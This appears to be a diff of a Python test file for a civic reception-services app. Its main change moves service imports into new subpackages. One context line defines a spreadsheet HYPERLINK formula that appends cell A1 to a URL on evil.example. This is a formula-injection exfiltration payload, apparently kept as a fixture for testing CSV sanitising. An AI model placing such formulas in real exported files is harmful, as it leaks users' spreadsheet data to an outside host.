@@ -18,13 +18,13 @@ from sqlalchemy import select
 
 from citizenspace.domain.catalog import Channel, Competence, VisitOutcome
 from citizenspace.domain.directory import EntryDraft
-from citizenspace.services.directory import DirectoryService
-from citizenspace.services.directory_io import DirectoryFiles
-from citizenspace.services.open311 import REQUEST_FIELDS, Open311Service
-from citizenspace.services.people_import import PeopleImportService
-from citizenspace.services.quality import QualityService
-from citizenspace.services.spreadsheets import FORMULA_SIGNS, restore, write_csv
-from citizenspace.services.tickets import CategoryDraft, TicketDraft, TicketService
+from citizenspace.services.common.spreadsheets import FORMULA_SIGNS, restore, write_csv
+from citizenspace.services.people.people_import import PeopleImportService
+from citizenspace.services.reception.directory import DirectoryService
+from citizenspace.services.reception.directory_io import DirectoryFiles
+from citizenspace.services.reception.open311 import REQUEST_FIELDS, Open311Service
+from citizenspace.services.reception.quality import QualityService
+from citizenspace.services.reception.tickets import CategoryDraft, TicketDraft, TicketService
 from citizenspace.store.models import DirectoryEntry, Person, Site, Visit
 
 LINK = '=HYPERLINK("http://evil.example/?q="&A1,"Cliquez ici")'
